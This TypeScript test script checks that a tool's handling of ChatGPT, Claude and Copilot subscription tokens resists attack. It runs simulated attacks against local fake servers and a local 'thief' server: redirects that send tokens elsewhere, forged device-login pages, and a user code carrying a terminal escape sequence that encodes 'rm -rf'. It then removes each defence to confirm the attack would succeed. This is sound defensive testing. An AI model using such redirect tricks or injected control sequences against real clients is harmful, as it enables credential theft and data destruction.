// `npm run prove -- hostile`, its part about subscriptions: a hostile server, a changed configuration, a forged browser
// address and a forged page try to obtain the tokens of a subscription or to sign in a foreign account. Then each check
// is removed in a copy of the source, and an attack must succeed.
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { createVault } from "@signalbox/redaction";
import { startFakeClaudePlan } from "@signalbox/testkit/anthropic";
import { startFakeChatGpt, startFakeCopilot } from "@signalbox/testkit/openai";
import type * as Bearer from "../../../../src/configure/subscriptions/bearer-fetch.ts";
import type * as ChatGpt from "../../../../src/configure/subscriptions/chatgpt.ts";
import type * as ChatGptFetch from "../../../../src/configure/subscriptions/chatgpt-fetch.ts";
import type * as Claude from "../../../../src/configure/subscriptions/claude.ts";
import type * as CopilotSignIn from "../../../../src/configure/subscriptions/copilot-sign-in.ts";
import type * as Credentials from "../../../../src/configure/subscriptions/credentials.ts";

const CONFIGURE = join(import.meta.dirname, "..", "..", "..", "..", "src", "configure");
const SOURCE = join(CONFIGURE, "subscriptions");
const PROVIDER = "plan";
const CLAUDE = "claude";

interface Sources {
  readonly chatgpt: typeof ChatGpt;
  readonly chatgptFetch: typeof ChatGptFetch;
  readonly claude: typeof Claude;
  readonly bearer: typeof Bearer;
  readonly copilotSignIn: typeof CopilotSignIn;
  readonly credentials: typeof Credentials;
}

async function load(folder: string): Promise<Sources> {
  const open = (name: string) => import(pathToFileURL(join(folder, name)).href);
  return {
    chatgpt: await open("chatgpt.ts"),
    chatgptFetch: await open("chatgpt-fetch.ts"),
    claude: await open("claude.ts"),
    bearer: await open("bearer-fetch.ts"),
    copilotSignIn: await open("copilot-sign-in.ts"),
    credentials: await open("credentials.ts"),
  };
}

type World = Awaited<ReturnType<typeof createWorld>>;

const CLIENT_ID = "Ov23aaaaaaaaaaaaaaaa";

async function createWorld(sources: Sources) {
  const { chatgpt, chatgptFetch, claude, bearer, copilotSignIn, credentials } = sources;
  const plan = await startFakeClaudePlan({ script: () => ({ text: "Hello." }) });
  const github = await startFakeCopilot({ script: () => ({ text: "Hello." }), clientId: CLIENT_ID });
  const fake = await startFakeChatGpt({ script: () => ({ text: "Hello." }) });
  const stolen: string[] = [];
  const thief = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk) => (body += chunk));
    request.on("end", () => {
      stolen.push(JSON.stringify(request.headers) + body);
      response.writeHead(200, { "content-type": "application/json" }).end("{}");
    });
  });
  await new Promise<void>((resolve) => thief.listen(0, "127.0.0.1", resolve));
  const thiefUrl = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
  const dir = mkdtempSync(join(tmpdir(), "hostile-subscription-"));
  const vault = createVault();
  const store = credentials.openSubscriptions({ dir }, vault);
  const signIn = chatgpt.createChatGptSignIn({ issuer: fake.url });
  const { baseUrl } = fake;
  const started = await signIn.start(1455);
  const tokens = await started.finish(fake.approve(started.url));
  await store.set(PROVIDER, { ...tokens, baseUrl });
  const setupToken = plan.issueToken();
  await store.set(CLAUDE, { ...claude.readSetupToken(setupToken, Date.now()), baseUrl: plan.url });
  return {
    plan,
    github,
    claude,
    setupToken,
    /** Sends a request of a Claude model. Returns the message of its failure. */
    async sendToClaude(url: string, base = plan.url, subscription: "claude" | "copilot" = "claude") {
      const send = bearer.createBearerFetch({
        provider: CLAUDE,
        baseUrl: base,
        vendor: claude.claude,
        getCredentials: () => store.get({ provider: CLAUDE, subscription, baseUrl: base }),
      });
      const body = JSON.stringify({ model: "claude-sonnet-4-6", messages: [] });
      const headers = { authorization: "Bearer none", "user-agent": "claude-cli/2.1" };
      try {
        const response = await send(url, { method: "POST", body, headers });
        return await response.text();
      } catch (error) {
        return error instanceof Error ? error.message : "";
      }
    },
    startDevice: () =>
      copilotSignIn.startCopilotSignIn({ clientId: CLIENT_ID, issuer: github.url, sleep: async () => {} }),
    fake,
    thiefUrl,
    vault,
    signIn,
    tokens,
    store,
    /** Sends a request of a model. */
    async send(url: string, base = baseUrl) {
      const send = chatgptFetch.createChatGptFetch({ provider: PROVIDER, baseUrl: base, store, signIn });
      const body = JSON.stringify({ model: "gpt-5.2", store: false, stream: true, input: "A secret." });
      const response = await send(url, { method: "POST", body }).catch(() => undefined);
      await response?.body?.cancel();
    },
    getDamage: () => (stolen.length > 0 ? "a foreign server received a request" : undefined),
    async close() {
      thief.closeAllConnections();
      thief.close();
      await Promise.all([fake.stop(), plan.stop(), github.stop()]);
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

/** Attacks by name. Each returns its damage, if any. */
const ATTACKS: Readonly<Record<string, (world: World) => Promise<string | undefined>>> = {
  "a redirect of a model request": async ({ fake, thiefUrl, send, getDamage }) => {
    fake.answerAt("/backend-api", () => Response.redirect(thiefUrl, 307));
    await send(`${fake.baseUrl}/responses`);
    return getDamage();
  },
  "a redirect of a refresh": async ({ fake, thiefUrl, send, getDamage }) => {
    fake.expire();
    fake.answerAt("/oauth/token", () => Response.redirect(thiefUrl, 307));
    await send(`${fake.baseUrl}/responses`);
    return getDamage();
  },
  "a redirect of a revocation": async ({ fake, thiefUrl, signIn, tokens, getDamage }) => {
    fake.answerAt("/oauth/revoke", () => Response.redirect(thiefUrl, 307));
    await signIn.revoke(tokens);
    return getDamage();
  },
  "a request to another server": async ({ thiefUrl, send, getDamage }) => {
    await send(`${thiefUrl}/responses`);
    return getDamage();
  },
  "a changed base URL": async ({ thiefUrl, send, getDamage }) => {
    await send(`${thiefUrl}/responses`, thiefUrl);
    return getDamage();
  },
  "a token in a log, a prompt or an export": async ({ vault, tokens }) => {
    const text = vault.redact(`${tokens.accessToken} ${tokens.refreshToken}`);
    const isShown = text.includes(tokens.accessToken) || text.includes(tokens.refreshToken);
    return isShown ? "a token is not redacted" : undefined;
  },
  "a redirect of a Claude request": async ({ plan, thiefUrl, sendToClaude, getDamage }) => {
    plan.answerAt("/v1/messages", () => Response.redirect(thiefUrl, 307));
    await sendToClaude(`${plan.url}/v1/messages`);
    return getDamage();
  },
  "a Claude request to another server": async ({ thiefUrl, sendToClaude, getDamage }) => {
    await sendToClaude(`${thiefUrl}/v1/messages`);
    return getDamage();
  },
  "a model that changes the base URL of a Claude plan": async ({ thiefUrl, sendToClaude, getDamage }) => {
    await sendToClaude(`${thiefUrl}/v1/messages`, thiefUrl);
    return getDamage();
  },
  "a model that turns a Claude plan into a Copilot plan": async ({ plan, sendToClaude, setupToken }) => {
    await sendToClaude(`${plan.url}/v1/messages`, plan.url, "copilot");
    const isSent = plan.requests.some(({ headers }) => headers.authorization === `Bearer ${setupToken}`);
    return isSent ? "the token was sent for another subscription" : undefined;
  },
  "configured headers that imitate Claude Code": async ({ plan, sendToClaude }) => {
    await sendToClaude(`${plan.url}/v1/messages`);
    return plan.requests.some(({ headers }) => headers["user-agent"] !== "signalbox")
      ? "a request named another program"
      : undefined;
  },
  "a vendor's error that repeats the token": async ({ plan, sendToClaude, setupToken }) => {
    plan.answerAt("/v1/messages", () => new Response(`Bad ${setupToken}`, { status: 401 }));
    const message = await sendToClaude(`${plan.url}/v1/messages`);
    return message.includes(setupToken) ? "the failure contains the token" : undefined;
  },
  "an encoded setup token in a log, a prompt or an export": async ({ vault, setupToken }) => {
    // Both the vault and the known form of the token redact it, so this attack has no check to remove.
    const forms = [setupToken, Buffer.from(setupToken).toString("base64")];
    const isShown = forms.some((form) => vault.redact(`It is ${form}`).includes(form));
    return isShown ? "a token is not redacted" : undefined;
  },
  "a pasted text that an error repeats": async ({ claude }) => {
    const pasted = "sk-ant-api03-of-the-owner-0123456789";
    try {
      claude.readSetupToken(pasted, 0);
    } catch (error) {
      return String(error).includes(pasted) ? "the error contains the key" : undefined;
    }
    return "a key was accepted as a token";
  },
  "a page of another server for the device code": async ({ github, startDevice }) => {
    const page = { verification_uri: "https://github.example/login/device", expires_in: 900, interval: 5 };
    const answer = { device_code: "d".repeat(40), user_code: "AAAA-BBBB", ...page };
    github.answerAt("/login/device/code", () => Response.json(answer));
    const device = await startDevice().catch(() => undefined);
    return device === undefined ? undefined : `the person is sent to ${device.page}`;
  },
  "a device code that is a command for the terminal": async ({ github, startDevice }) => {
    const answer = { verification_uri: `${github.url}/login/device`, expires_in: 900, interval: 5 };
    const forged = { device_code: "d".repeat(40), user_code: "\u001b]52;c;cm0gLXJm\u0007", ...answer };
    github.answerAt("/login/device/code", () => Response.json(forged));
    const device = await startDevice().catch(() => undefined);
    return device === undefined ? undefined : "a control sequence is printed";
  },
  "a redirect of a device code": async ({ github, thiefUrl, startDevice, getDamage }) => {
    const device = await startDevice();
    github.answerAt("/login/oauth/access_token", () => Response.redirect(thiefUrl, 307));
    await device.finish(AbortSignal.timeout(5_000)).catch(() => undefined);
    return getDamage();
  },
  "a foreign account in the browser": async ({ fake, signIn }) => {
    const started = await signIn.start(1455);
    const callback = fake.approve(started.url, "attacker");
    callback.searchParams.set("state", "of-the-attacker");
    const tokens = await started.finish(callback).catch(() => undefined);
    return tokens === undefined ? undefined : `signed in as ${tokens.accountId}`;
  },
};

async function attempt(sources: Sources, name: string): Promise<string | undefined> {
  const world = await createWorld(sources);
  try {
    return await ATTACKS[name]?.(world);
  } finally {
    await world.close();
  }
}

const CHECKS = [
  {
    attack: "a redirect of a model request",
    file: "chatgpt-fetch.ts",
    from: 'redirect: "manual"',
    to: 'redirect: "follow"',
  },
  {
    attack: "a redirect of a refresh",
    file: "chatgpt.ts",
    from: '{ ...init, redirect: "error" }',
    to: '{ ...init, redirect: "follow" }',
  },
  { attack: "a redirect of a revocation", file: "chatgpt.ts", from: 'redirect: "error",\n', to: "" },
  {
    attack: "a request to another server",
    file: "chatgpt-fetch.ts",
    from: "if (url.origin !== origin)",
    to: "if (false)",
  },
  {
    attack: "a changed base URL",
    file: "credentials.ts",
    from: " && data.baseUrl === baseUrl ? data",
    to: " ? data",
  },
  {
    attack: "a token in a log, a prompt or an export",
    file: "credentials.ts",
    from: "if (added.length > 0) vault.add(added);",
    to: "",
  },
  {
    attack: "a redirect of a Claude request",
    file: "bearer-fetch.ts",
    from: 'redirect: "manual"',
    to: 'redirect: "follow"',
  },
  {
    attack: "a Claude request to another server",
    file: "bearer-fetch.ts",
    from: "if (url.origin !== origin)",
    to: "if (false)",
  },
  {
    attack: "a model that changes the base URL of a Claude plan",
    file: "credentials.ts",
    from: " && data.baseUrl === baseUrl ? data",
    to: " ? data",
  },
  {
    attack: "a model that turns a Claude plan into a Copilot plan",
    file: "credentials.ts",
    from: "return credentials.subscription === subscription;",
    to: "return true;",
  },
  {
    attack: "configured headers that imitate Claude Code",
    file: "bearer-fetch.ts",
    from: 'headers.set("user-agent", USER_AGENT);',
    to: "",
  },
  {
    attack: "a vendor's error that repeats the token",
    file: "bearer-fetch.ts",
    from: "throw refuse(provider, refusal)",
    to: "throw refuse(provider, { ...refusal, reason: body })",
  },
  {
    attack: "a pasted text that an error repeats",
    file: "claude.ts",
    from: '? "this is an API key.',
    to: '? accessToken + " is an API key.',
  },
  {
    attack: "a page of another server for the device code",
    file: "copilot-sign-in.ts",
    from: "if (page?.origin !== new URL(issuer).origin)",
    to: "if (page === null)",
  },
  {
    attack: "a device code that is a command for the terminal",
    file: "copilot-sign-in.ts",
    from: "if (!/^[A-Za-z0-9-]{4,20}$/.test(device.user_code))",
    to: "if (false)",
  },
  {
    attack: "a redirect of a device code",
    file: "copilot-sign-in.ts",
    from: '{ ...init, redirect: "error" }',
    to: '{ ...init, redirect: "follow" }',
  },
  {
    attack: "a foreign account in the browser",
    file: "chatgpt.ts",
    from: "oauth.validateAuthResponse(server, client, callback, state)",
    to: "oauth.validateAuthResponse(server, client, callback, oauth.skipStateCheck)",
  },
] as const;

let failed = false;
const sources = await load(SOURCE);
for (const name of Object.keys(ATTACKS)) {
  const damage = await attempt(sources, name);
  if (damage === undefined) continue;
  console.log(`  ${name}: ${damage}`);
  failed = true;
}
console.log(`subscriptions: ${Object.keys(ATTACKS).length} attacks tried${failed ? "" : ", 0 got through"}`);
for (const [index, { attack, file, from, to }] of CHECKS.entries()) {
  const copy = join(CONFIGURE, `.defenceless-${process.pid}-${index}`);
  cpSync(SOURCE, copy, { recursive: true });
  try {
    const text = readFileSync(join(copy, file), "utf8");
    if (!text.includes(from)) throw new Error(`${file} does not have: ${from}`);
    writeFileSync(join(copy, file), text.replace(from, to));
    const damage = await attempt(await load(copy), attack);
    console.log(`without the check against "${attack}": ${damage === undefined ? "NOT CAUGHT" : "caught"}`);
    if (damage === undefined) failed = true;
  } finally {
    rmSync(copy, { recursive: true, force: true });
  }
}
process.exit(failed ? 1 : 0);
